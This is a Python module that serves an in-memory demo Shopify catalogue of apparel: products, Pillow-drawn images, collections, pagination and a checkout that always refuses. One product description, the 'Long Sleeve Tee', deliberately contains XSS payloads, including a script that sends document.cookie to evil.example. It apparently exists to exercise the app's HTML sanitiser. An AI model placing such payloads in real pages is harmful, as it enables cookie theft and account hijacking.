"""The embedded store catalogue: a small Shopify-shaped shop served from memory.

Used when SHOPIFY_STORE_DOMAIN or every Shopify token is unset. Its products are written as
Shopify product JSON and read into the same read model as the GraphQL client's answers (ids,
gids, prices in cents). Its items are never sold (`checkout` refuses). Product pictures are drawn
with Pillow into the demo media folder (never hot-linked),
once: files that exist are kept.
"""

from __future__ import annotations

import asyncio
import base64
import binascii
import functools
import threading
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from PIL import Image, ImageDraw

from storefront.services.catalog.text_search import search_text
from storefront.services.media import demo_images
from storefront.services.platform.errors import NotFoundError, ValidationError
from storefront.services.shopify.catalogue import (
    INVALID_CURSOR,
    MAX_PAGE_SIZE,
    PRODUCT_NOT_FOUND,
    STATUS_DEMO,
    CheckoutLine,
    StoreCheckout,
    StoreCollection,
    StorePage,
    StoreProduct,
    StoreStatus,
    parse_product,
)

DEMO_SHOP_NAME = "Northline Demo Shop"
DEMO_MESSAGE = (
    "Demo mode: showing a sample catalogue. Set SHOPIFY_STORE_DOMAIN and SHOPIFY_STOREFRONT_TOKEN "
    "to connect your Shopify store."
)
#: The demo has no store behind it to check out on.
DEMO_CHECKOUT = "Demo catalogue: these items cannot be bought here"
_CURSOR_PREFIX = "offset:"

_PRODUCT_ID_BASE = 8_123_456_700_000
#: The id of the demo store's first product (ids count up from it in the demo's order).
DEMO_FIRST_PRODUCT_ID = _PRODUCT_ID_BASE + 1
_VARIANT_ID_BASE = 44_123_456_000_000
_IMAGE_ID_BASE = 36_123_456_000_000

COLOURS: dict[str, str] = {
    "Black": "#16181d",
    "White": "#f7f7f5",
    "Heather Grey": "#9a9ea6",
    "Sand": "#d8c3a0",
    "Sage": "#9caf88",
    "Navy": "#1d2b4f",
    "Charcoal": "#3b3f45",
    "Forest": "#2f5d3a",
    "Oatmeal": "#e3d9c6",
    "Burgundy": "#6d1f2f",
    "Cream": "#f3ead3",
    "Sky Blue": "#8ec5e8",
    "Pink": "#f2a7c3",
    "Khaki": "#b8a47a",
    "Red": "#c8102e",
    "Natural": "#efe6d2",
}


@dataclass(frozen=True)
class _DemoItem:
    """One demo product before it is written as Shopify JSON."""

    title: str
    handle: str
    kind: str  # tee, hoodie, crewneck (garment drawings), tote, cap
    vendor: str
    product_type: str
    tags: str
    body_html: str
    colours: Sequence[str]
    sizes: Sequence[str]
    price: str | None
    #: Sizes that cost more than `price`.
    upcharge: dict[str, str] | None = None
    trim: str = "White"


_ITEMS: tuple[_DemoItem, ...] = (
    _DemoItem(
        "Classic Crew Tee", "classic-crew-tee", "tee", "Northline Apparel", "T-Shirt", "cotton, summer, unisex",
        "<p>Our everyday tee in <strong>100% combed ring-spun cotton</strong>.</p>"
        "<ul><li>Pre-shrunk</li><li>Tear-away label</li><li>Printed to order</li></ul>",
        ("Black", "White", "Heather Grey"), ("S", "M", "L", "XL"), "24.00", {"XL": "26.00"}, trim="Red",
    ),
    _DemoItem(
        "Vintage Wash Tee", "vintage-wash-tee", "tee", "Northline Apparel", "T-Shirt", "garment dyed, summer, vintage",
        "<p>Garment-dyed for a <em>lived-in</em> look from the first wear.</p>"
        "<h3>Care</h3><p>Wash cold, inside out. Tumble dry low.</p>",
        ("Sand", "Sage"), ("S", "M", "L", "XL"), "28.50", trim="Charcoal",
    ),
    _DemoItem(
        "Pullover Hoodie", "pullover-hoodie", "hoodie", "Harbor & Pine", "Hoodie", "fleece, winter, unisex",
        "<p>Midweight fleece hoodie with a lined hood and a front pouch pocket.</p>"
        "<table><tr><th>Size</th><th>Chest (in)</th></tr><tr><td>M</td><td>40</td></tr>"
        "<tr><td>L</td><td>44</td></tr></table>",
        ("Navy", "Charcoal", "Forest"), ("S", "M", "L", "XL", "2XL"), "54.99", {"2XL": "58.99"}, trim="Cream",
    ),
    _DemoItem(
        "Zip-Up Hoodie", "zip-up-hoodie", "hoodie", "Harbor & Pine", "Hoodie", "fleece, layering, winter",
        "<p>A full-zip hoodie for cool mornings. <a href=\"https://example.com/size-guide\">Size guide</a>.</p>",
        ("Black", "Oatmeal"), ("S", "M", "L", "XL"), "62.00", trim="Burgundy",
    ),
    _DemoItem(
        "Heavyweight Crewneck", "heavyweight-crewneck", "crewneck", "Harbor & Pine", "Sweatshirt",
        "fleece, heavyweight, winter",
        "<p>A <b>400 gsm</b> crewneck sweatshirt with ribbed cuffs and hem.</p>",
        ("Burgundy", "Cream"), ("S", "M", "L", "XL"), "46.00", trim="Cream",
    ),
    _DemoItem(
        "Kids Crewneck Sweatshirt", "kids-crewneck-sweatshirt", "crewneck", "Little Northline", "Sweatshirt",
        "kids, gift, fleece",
        "<p>Soft and roomy, sized for growing kids.</p><ol><li>Ages 4 to 10</li><li>Machine washable</li></ol>",
        ("Sky Blue", "Pink"), ("4", "6", "8", "10"), "32.00", trim="White",
    ),
    _DemoItem(
        "Long Sleeve Tee", "long-sleeve-tee", "tee", "Northline Apparel", "T-Shirt", "cotton, layering, unisex",
        # A description as a careless import might deliver it: the detail page shows it sanitised.
        "<p onclick=\"alert('hi')\">Long sleeves, same soft cotton.</p>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        "<img src=\"x\" onerror=\"alert('xss')\">"
        "<p style=\"color:red\">Rib-knit cuffs. <a href=\"javascript:alert(1)\">Learn more</a></p>",
        ("White", "Black"), ("S", "M", "L", "XL"), "31.25", trim="Navy",
    ),
    _DemoItem(
        "Canvas Tote Bag", "canvas-tote-bag", "tote", "Northline Goods", "Bag", "accessories, gift, eco",
        "<p>A sturdy 12 oz cotton canvas tote with long handles.</p>",
        ("Natural",), (), "18.00", trim="Black",
    ),
    _DemoItem(
        "Embroidered Dad Cap", "embroidered-dad-cap", "cap", "Northline Goods", "Hat", "accessories, gift, embroidered",
        "<p>Unstructured six-panel cap with an adjustable strap and embroidered logo.</p>",
        ("Black", "Khaki", "Navy"), (), "22.00", trim="White",
    ),
    _DemoItem(
        "Ringer Tee", "ringer-tee", "tee", "Northline Apparel", "T-Shirt", "retro, summer",
        "<p>A <u>retro</u> ringer tee with contrast collar and cuffs.</p>",
        ("White",), ("S", "M", "L", "XL"), "27.00", trim="Red",
    ),
    _DemoItem(
        "Oversized Graphic Tee", "oversized-graphic-tee", "tee", "Northline Apparel", "T-Shirt",
        "oversized, streetwear, cotton",
        "<blockquote>Drop shoulders, boxy fit.</blockquote><p>Size down for a regular fit.</p>",
        ("Black", "Sand"), ("S", "M", "L", "XL"), "34.00", trim="Sand",
    ),
    _DemoItem(
        "Custom Team Jersey", "custom-team-jersey", "tee", "Northline Teamwear", "Jersey", "team, made to order",
        "<p>Made to order for teams: contact us for a quote.</p>",
        ("Red", "Navy"), ("S", "M", "L", "XL"), None, trim="White",
    ),
)

#: Custom collections (hand-picked handles) and one smart collection (by product type).
_CUSTOM_COLLECTIONS: tuple[tuple[int, str, tuple[str, ...]], ...] = (
    (
        412_345_601,
        "Summer Essentials",
        ("classic-crew-tee", "vintage-wash-tee", "ringer-tee", "canvas-tote-bag", "embroidered-dad-cap"),
    ),
    (
        412_345_602,
        "Gift Ideas",
        ("canvas-tote-bag", "embroidered-dad-cap", "kids-crewneck-sweatshirt", "pullover-hoodie"),
    ),
)
_SMART_COLLECTIONS: tuple[tuple[int, str, frozenset[str]], ...] = (
    (412_345_701, "Hoodies & Sweatshirts", frozenset({"Hoodie", "Sweatshirt"})),
)


def _slug(name: str) -> str:
    return name.lower().replace(" ", "-")


def _raw_product(index: int, item: _DemoItem, media_url: str, image_size: int) -> dict[str, Any]:
    """The item as Shopify product JSON (the shape `parse_product` reads)."""
    product_id = _PRODUCT_ID_BASE + index
    option_values: list[tuple[str, Sequence[str]]] = []
    if len(item.colours) > 1 or (item.colours and item.sizes):
        option_values.append(("Color", item.colours))
    if item.sizes:
        option_values.append(("Size", item.sizes))
    if not option_values:
        option_values.append(("Title", ("Default Title",)))

    combos: list[tuple[str, ...]] = [()]
    for _, values in option_values:
        combos = [combo + (value,) for combo in combos for value in values]
    variants = []
    for position, combo in enumerate(combos, start=1):
        size = combo[-1] if item.sizes else ""
        price = (item.upcharge or {}).get(size, item.price)
        variants.append(
            {
                "id": _VARIANT_ID_BASE + index * 100 + position,
                "product_id": product_id,
                "title": " / ".join(combo),
                "price": price,
                "compare_at_price": None,
                "sku": "-".join([item.handle.upper(), *(_slug(v).upper() for v in combo)]),
                "position": position,
                "inventory_policy": "continue",
                "inventory_management": None,
                **{f"option{n}": value for n, value in enumerate(combo, start=1)},
            }
        )
    images = [
        {
            "id": _IMAGE_ID_BASE + index * 100 + position,
            "product_id": product_id,
            "position": position,
            "alt": f"{item.title} in {colour}",
            "src": f"{media_url}/{_image_file(item, colour)}",
            "width": image_size,
            "height": image_size,
        }
        for position, colour in enumerate(item.colours, start=1)
    ]
    return {
        "id": product_id,
        "title": item.title,
        "handle": item.handle,
        "body_html": item.body_html,
        "vendor": item.vendor,
        "product_type": item.product_type,
        "tags": item.tags,
        "status": "active",
        "options": [
            {"id": product_id * 10 + n, "product_id": product_id, "name": name, "position": n, "values": list(values)}
            for n, (name, values) in enumerate(option_values, start=1)
        ],
        "variants": variants,
        "images": images,
        "image": images[0] if images else None,
    }


def _image_file(item: _DemoItem, colour: str) -> str:
    return f"{item.handle}-{_slug(colour)}.png"


def _render_accessory(kind: str, colour: str, trim: str, label: str, size: int) -> Image.Image:
    """A flat drawing of a tote bag or a cap on a soft backdrop."""
    body, accent = demo_images.hex_to_rgb(colour), demo_images.hex_to_rgb(trim)
    image = Image.new("RGB", (size, size), (226, 230, 236))
    draw = ImageDraw.Draw(image)
    s = size / 100
    outline = tuple(max(0, c - 70) for c in body)
    if kind == "tote":
        draw.arc((34 * s, 10 * s, 66 * s, 46 * s), 180, 360, fill=accent, width=max(1, int(3 * s)))
        draw.rectangle((22 * s, 28 * s, 78 * s, 88 * s), fill=body, outline=outline, width=max(1, int(s)))
        text_y = 58 * s
    else:  # cap
        draw.pieslice((20 * s, 38 * s, 80 * s, 98 * s), 180, 360, fill=body, outline=outline, width=max(1, int(s)))
        draw.ellipse((46 * s, 36 * s, 54 * s, 42 * s), fill=accent)
        draw.polygon([(50 * s, 68 * s), (90 * s, 68 * s), (82 * s, 76 * s), (50 * s, 74 * s)], fill=outline)
        text_y = 58 * s
    font = demo_images._font(max(8, int(7 * s)))
    draw.text((50 * s, text_y), label, fill=accent, font=font, anchor="mm")
    return image


class DemoStoreCatalogue:
    """StoreCatalogue served from memory: about a dozen products in three collections."""

    def __init__(self, media_dir: Path, media_url: str = "/uploads/demo/shopify", *, image_size: int = 600) -> None:
        self.media_dir = Path(media_dir)
        self.media_url = media_url.rstrip("/")
        self.image_size = image_size
        self._raw = [
            _raw_product(i, item, self.media_url, image_size)
            for i, item in enumerate(_ITEMS, start=DEMO_FIRST_PRODUCT_ID - _PRODUCT_ID_BASE)
        ]
        self._products: list[StoreProduct] = [parse_product(raw) for raw in self._raw]
        self._by_id = {p.id: p for p in self._products}
        by_handle = {item.handle: p.id for item, p in zip(_ITEMS, self._products, strict=True)}
        self._collections: list[StoreCollection] = []
        self._members: dict[int, frozenset[int]] = {}
        for collection_id, title, handles in _CUSTOM_COLLECTIONS:
            self._collections.append(StoreCollection(collection_id, title))
            self._members[collection_id] = frozenset(by_handle[h] for h in handles)
        for collection_id, title, types in _SMART_COLLECTIONS:
            self._collections.append(StoreCollection(collection_id, title))
            self._members[collection_id] = frozenset(p.id for p in self._products if p.product_type in types)
        self._collections.sort(key=lambda c: c.title.lower())
        self._images_ready = False
        self._images_lock = threading.Lock()

    # ------------------------------------------------------------------ images

    def ensure_images(self) -> int:
        """Draw every missing product picture into media_dir; returns how many files were written."""
        with self._images_lock:
            written = 0
            for item in _ITEMS:
                for colour in item.colours:
                    written += demo_images.ensure_png(
                        self.media_dir / _image_file(item, colour),
                        functools.partial(self._render, item, colour),
                    )
            self._images_ready = True
            return written

    def _render(self, item: _DemoItem, colour: str) -> Image.Image:
        label = item.vendor.split()[0].upper()
        if item.kind in ("tote", "cap"):
            return _render_accessory(item.kind, COLOURS[colour], COLOURS[item.trim], label, self.image_size)
        return demo_images.render_garment(
            item.kind,  # type: ignore[arg-type]
            COLOURS[colour],
            COLOURS[item.trim],
            label,
            self.image_size,
        )

    async def _ready(self) -> None:
        if not self._images_ready:
            await asyncio.to_thread(self.ensure_images)

    # ------------------------------------------------------------------ StoreCatalogue

    async def status(self) -> StoreStatus:
        return StoreStatus(status=STATUS_DEMO, message=DEMO_MESSAGE, shop_name=DEMO_SHOP_NAME)

    async def products(
        self, *, query: str = "", collection_id: int | None = None, cursor: str = "", limit: int = 24
    ) -> StorePage:
        await self._ready()
        limit = max(1, min(int(limit), MAX_PAGE_SIZE))
        offset = decode_cursor(cursor)
        needle = search_text(query).casefold()
        members = None if collection_id is None else self._members.get(collection_id, frozenset())
        matches = [
            p
            for p in self._products
            if (not needle or needle in p.title.casefold()) and (members is None or p.id in members)
        ]
        page = matches[offset : offset + limit]
        more = offset + limit < len(matches)
        return StorePage(products=tuple(page), next_cursor=encode_cursor(offset + limit) if more else "")

    async def product(self, product_id: int) -> StoreProduct:
        await self._ready()
        try:
            return self._by_id[product_id]
        except KeyError:
            raise NotFoundError(PRODUCT_NOT_FOUND) from None

    async def products_by_id(self, product_ids: Sequence[int]) -> dict[int, StoreProduct]:
        await self._ready()
        return {i: self._by_id[i] for i in product_ids if i in self._by_id}

    async def collections(self) -> list[StoreCollection]:
        return list(self._collections)

    async def checkout(self, lines: Sequence[CheckoutLine]) -> StoreCheckout:
        raise ValidationError(DEMO_CHECKOUT)

    # ------------------------------------------------------------------ for tests and tools

    def raw_products(self) -> list[dict[str, Any]]:
        """The catalogue as Shopify product JSON (what a fake Shopify could serve)."""
        return [dict(raw) for raw in self._raw]

    def collection_product_ids(self, collection_id: int) -> frozenset[int]:
        return self._members.get(collection_id, frozenset())


def encode_cursor(offset: int) -> str:
    """An opaque cursor for the page starting at `offset`."""
    return base64.urlsafe_b64encode(f"{_CURSOR_PREFIX}{offset}".encode()).decode().rstrip("=")


def decode_cursor(cursor: str) -> int:
    """The offset of a cursor from encode_cursor ("" is the first page); ValidationError otherwise."""
    if not cursor:
        return 0
    try:
        text = base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4)).decode("ascii")
    except (binascii.Error, UnicodeDecodeError, ValueError):
        raise ValidationError(INVALID_CURSOR, {"cursor": INVALID_CURSOR}) from None
    number = text.removeprefix(_CURSOR_PREFIX)
    if not text.startswith(_CURSOR_PREFIX) or not number.isdigit() or len(number) > 9:
        raise ValidationError(INVALID_CURSOR, {"cursor": INVALID_CURSOR})
    return int(number)
